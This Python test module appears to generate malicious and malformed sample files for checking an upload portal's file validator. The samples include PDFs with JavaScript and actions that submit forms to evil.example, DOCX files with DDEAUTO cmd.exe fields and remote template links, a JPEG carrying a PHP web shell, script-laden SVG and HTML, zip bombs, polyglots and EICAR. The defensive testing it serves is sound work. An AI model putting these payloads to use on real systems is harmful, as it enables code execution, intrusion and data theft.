"""Families of bad files beyond tests/files/corpus.py, made here: nothing hostile lies in the repository."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.files.corpus import docx, ole, pdf, picture, zip_of

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def action(**entries: object) -> bytes:
    """A PDF whose first page does this when opened."""

    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].obj.AA = Dictionary(O=Dictionary(**entries))

    return pdf(change)


def annotation(**entries: object) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
        made.pages[0].obj.Annots = Array([link])

    return pdf(change)


def names_javascript(made: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=Array(["x", Dictionary(S=Name.JavaScript, JS="app.alert(1)")]))
    made.Root.Names = Dictionary(JavaScript=tree)


def page_loop(made: pikepdf.Pdf) -> None:
    made.Root.Pages.Kids = Array([made.Root.Pages])


def deep_array(made: pikepdf.Pdf) -> None:
    inner = Array([])
    for _ in range(400):
        inner = Array([inner])
    made.Root.Deep = inner


def png(*chunks: tuple[bytes, bytes], width: int = 20, height: int = 20, good: bool = True) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(name + data) ^ (0 if good else 1)
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", crc)

    rows = zlib.compress((b"\0" + b"\7" * 3 * width) * height)
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [
        chunk(b"IHDR", head),
        *(chunk(*one) for one in chunks),
        chunk(b"IDAT", rows),
        chunk(b"IEND", b""),
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def nested_zip(depth: int) -> bytes:
    inner = b"\0" * 1_000_000
    for _ in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("a.zip", inner)
        inner = out.getvalue()
    return inner


def twice(name: str) -> bytes:
    """A DOCX in which a part stands twice."""
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr(name, b"<w:document/>")
    return out.getvalue()


def lying_zip() -> bytes:
    """A DOCX that says its part is small, and unpacks to much."""
    made = bytearray(docx({"word/media/a.xml": b"\0" * (30 * 1024 * 1024)}))
    big = struct.pack("<I", 30 * 1024 * 1024)
    return bytes(made.replace(big, struct.pack("<I", 10)))


def field(code: str) -> bytes:
    return docx({"word/document.xml": f"<w:document><w:instrText>{code}</w:instrText></w:document>".encode()})


def relation(text: str) -> bytes:
    return docx(rels=text)


# family → name, bytes. The reason is what the portal tells; its words are tested for each.
FAMILIES: dict[str, dict[str, tuple[str, bytes]]] = {
    "wrong first bytes": {
        "an ELF program": ("a.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 200),
        "a shell script": ("a.pdf", b"#!/bin/sh\nid\n"),
        "a Java class": ("a.jpg", b"\xca\xfe\xba\xbe" + b"\0" * 100),
        "a 7z archive": ("a.docx", b"7z\xbc\xaf\x27\x1c" + b"\0" * 100),
        "a RAR archive": ("a.docx", b"Rar!\x1a\x07\x01\0" + b"\0" * 100),
        "a gzip": ("a.pdf", b"\x1f\x8b\x08" + b"\0" * 100),
        "a TIFF": ("a.jpg", b"II*\0" + b"\0" * 100),
        "a BMP": ("a.png", picture("BMP")),
        "a WEBP": ("a.jpg", picture("WEBP")),
        "PostScript": ("a.pdf", b"%!PS-Adobe-3.0\n(x) print"),
        "noise": ("a.pdf", bytes(range(256)) * 40),
        "NULs": ("a.pdf", b"\0" * 5000),
    },
    "markup with script": {
        "SVG": ("a.png", b"<?xml version='1.0'?><svg onload='alert(1)'/>"),
        "SVG compressed": ("a.png", zlib.compress(b"<svg/>")),
        "HTML in UTF-16": ("a.pdf", "<script>alert(1)</script>".encode("utf-16")),
        "MHTML": ("a.pdf", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>"),
        "XML with entities": ("a.docx", b"<!DOCTYPE a [<!ENTITY b 'x'>]><a>&b;</a>"),
    },
    "two kinds in one": {
        "HTML before a PDF": ("a.pdf", b"<html><script>alert(1)</script>\n" + pdf()),
        "a comment before a PDF": ("a.pdf", b"GIF89a" + pdf()),
        "HTML behind a PDF": ("a.pdf", pdf() + b"<html><script>alert(1)</script></html>"),
        "a PDF behind a picture": ("a.jpg", picture() + pdf()),
        "HTML behind a picture": ("a.jpg", picture() + b"<html><script>alert(1)</script></html>"),
        "PHP in a picture": ("a.jpg", picture(comment=b"<?php system($_GET[0]); ?>")),
        "a Word file behind a picture": ("a.png", picture("PNG") + docx()),
        "a Word file behind a PDF": ("a.pdf", pdf() + docx()),
        "a ZIP with a program in front": ("a.docx", b"MZ" + b"\0" * 100 + docx()),
    },
    "PDF that acts": {
        "JavaScript by name": ("a.pdf", pdf(names_javascript)),
        "a form sent away": ("a.pdf", action(S=Name.SubmitForm, F="http://evil.example/")),
        "another file opened": ("a.pdf", action(S=Name.GoToR, F="//evil.example/a.pdf", D=Array([0]))),
        "an embedded file opened": ("a.pdf", action(S=Name.GoToE, T=Dictionary(R=Name.C, N="x"))),
        "a web page opened by itself": ("a.pdf", action(S=Name.URI, URI="http://evil.example/")),
        "data imported": ("a.pdf", action(S=Name.ImportData, F="a.fdf")),
        "a film": ("a.pdf", annotation(Subtype=Name.Movie, A=Dictionary(S=Name.Movie))),
        "rich media": ("a.pdf", annotation(Subtype=Name.RichMedia)),
        "a 3D model": ("a.pdf", annotation(Subtype=Name("/3D"))),
        "a file pinned to the page": ("a.pdf", annotation(Subtype=Name.FileAttachment, FS=Dictionary(F="a"))),
    },
    "PDF that breaks readers": {
        "pages in a loop": ("a.pdf", pdf(page_loop)),
        "no pages": ("a.pdf", pdf(pages=0)),
        "an empty trailer": ("a.pdf", b"%PDF-1.7\ntrailer<<>>\nstartxref\n0\n%%EOF"),
        "a table of nothing": ("a.pdf", b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Root 9 0 R>>\nstartxref\n9\n%%EOF"),
        "cut in the middle": ("a.pdf", pdf(pages=9)[:-200]),
    },
    "locked": {
        "PDF of 256 bits": ("a.pdf", pdf(encryption=pikepdf.Encryption(user="x", owner="y", R=6))),
        "PDF of 40 bits": ("a.pdf", pdf(encryption=pikepdf.Encryption(user="", owner="y", R=2, aes=False, metadata=False))),
    },
    "Word that acts": {
        "a program embedded": ("a.docx", docx({"word/embeddings/a.exe": b"MZ"})),
        "a Word file embedded": ("a.docx", docx({"word/embeddings/a.docx": docx()})),
        "a chunk of HTML": ("a.docx", docx({"word/afchunk.mht": b"MIME-Version: 1.0"}, rels='<Relationship Id="r1" Type="http://x/aFChunk" Target="afchunk.mht"/>')),
        "DDE": ("a.docx", field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
        "DDE in pieces": ("a.docx", docx({"word/document.xml": b"<w:document><w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText></w:document>"})),
        "INCLUDETEXT": ("a.docx", field("INCLUDETEXT http://evil.example/a")),
        "INCLUDEPICTURE": ("a.docx", field('INCLUDEPICTURE "http://evil.example/a.png" \\d')),
        "a frame from outside": ("a.docx", relation('<Relationship Id="r1" Type="http://x/frame" Target="http://evil.example/" TargetMode="External"/>')),
        "single quotes, other order": ("a.docx", relation("<Relationship TargetMode='External' Target='http://evil.example/' Id='r1' Type='http://x/attachedTemplate'/>")),
        "a name with prefix": ("a.docx", relation('<r:Relationship xmlns:r="x" TargetMode = "External" Target="http://evil.example/" Type="http://x/oleObject" Id="r1"/>')),
        "a link called a template": ("a.docx", relation('<Relationship Id="/hyperlink" Type="http://x/attachedTemplate" Target="http://evil.example/" TargetMode="External"/>')),
        "a link to a file": ("a.docx", relation('<Relationship Id="r1" Type="http://x/hyperlink" Target="file://evil.example/a.exe" TargetMode="External"/>')),
        "relations in UTF-16": ("a.docx", docx({"word/_rels/document.xml.rels": '<Relationship TargetMode="External" Type="http://x/t" Target="http://e/"/>'.encode("utf-16")})),
        "the external mode in an entity": ("a.docx", relation('<Relationship Id="r1" Type="http://x/t" Target="http://e/" TargetMode="&#69;xternal"/>')),
        "macros under another name": ("a.docx", docx({"word/x.bin": b"\0"}, rels='<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/>')),
        "ActiveX": ("a.docx", docx({"word/activeX/activeX1.xml": b"<a/>"})),
        "an old Word file with macros": ("a.docx", ole("Macros", "VBA")),
    },
    "archives that grow": {
        "a ZIP in a ZIP": ("a.docx", nested_zip(5)),
        "sizes that lie": ("a.docx", lying_zip()),
        "a part that stands twice": ("a.docx", twice("word/document.xml")),
        "an absolute name": ("a.docx", docx({"/etc/passwd": b"x"})),
        "a drive's name": ("a.docx", docx({"C:\\a": b"x"})),
        "no main part": ("a.docx", docx(leave="word/document.xml")),
        "no list of kinds": ("a.docx", docx(leave="[Content_Types].xml")),
        "a spreadsheet": ("a.docx", zip_of(["[Content_Types].xml", "xl/workbook.xml"])),
        "cut in the middle": ("a.docx", docx()[:-60]),
    },
    "pictures that break": {
        "a check sum that lies": ("a.png", png(good=False)),
        "no width": ("a.png", png(width=0)),
        "a text that grows": ("a.png", png((b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 80_000_000)))),
        "a profile that grows": ("a.png", png((b"iCCP", b"a\0\0" + zlib.compress(b"\0" * 80_000_000)))),
        "many frames": ("a.jpg", picture("MPO")[:200] + b"\0" * 40),
        "a JPEG of one byte": ("a.jpg", b"\xff"),
        "half a JPEG": ("a.jpg", picture()[:1500]),
    },
    "malware by name": {"EICAR called PDF": ("a.pdf", EICAR), "EICAR called picture": ("a.jpg", EICAR)},
    "nothing": {"0 bytes": ("a.pdf", b"")},
    "too much": {"a byte over the limit": ("a.docx", docx() + b"\0" * (1024 * 1024))},
}  # fmt: skip
